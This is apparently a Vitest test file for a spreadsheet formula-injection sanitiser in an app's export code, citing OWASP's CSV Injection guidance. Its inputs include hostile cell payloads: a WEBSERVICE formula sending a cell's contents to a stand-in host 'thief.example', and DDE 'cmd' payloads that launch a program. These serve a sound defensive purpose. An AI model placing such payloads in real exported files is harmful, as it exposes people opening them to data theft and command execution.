import { describe, expect, it } from 'vitest';
import { formulaSafe } from '../../../../../electron/main/exports/formula-safe.ts';

describe('text that a spreadsheet would run', () => {
  // OWASP, "CSV Injection": the characters with which a cell must not begin, and its examples.
  it.each([
    ['equals', '=1+1'],
    ['plus', '+1+1'],
    ['minus', '-1+1'],
    ['at', '@SUM(1+1)'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['a line feed', '\n=1+1'],
    ['a full-width equals', '＝1+1'],
    ['a full-width plus', '＋1'],
    ['a full-width minus', '－1'],
    ['a full-width at', '＠SUM(1)'],
    ['a way out with the network', '=WEBSERVICE("https://thief.example/?"&A1)'],
    ['a way to a program', "=cmd|' /C calc'!A0"],
    ['a way to a program behind a minus', "-2+3+cmd|' /C calc'!A0"],
    ['white space, which some programs cut off', '  =1+1'],
    ['a no-break space', '\u00a0=1+1'],
  ])('gets an apostrophe before it: %s', (_case, text) => expect(formulaSafe(text)).toBe(`'${text}`));

  it.each([
    ['a name', 'example.com'],
    ['a sign inside', 'a=b'],
    ['a price', '12.50'],
    ['an instant', '2026-02-21T14:00:00.000Z'],
    ['nothing', ''],
    ['white space before a word', ' registered'],
  ])('is left as it is where it is none: %s', (_case, text) => expect(formulaSafe(text)).toBe(text));
});
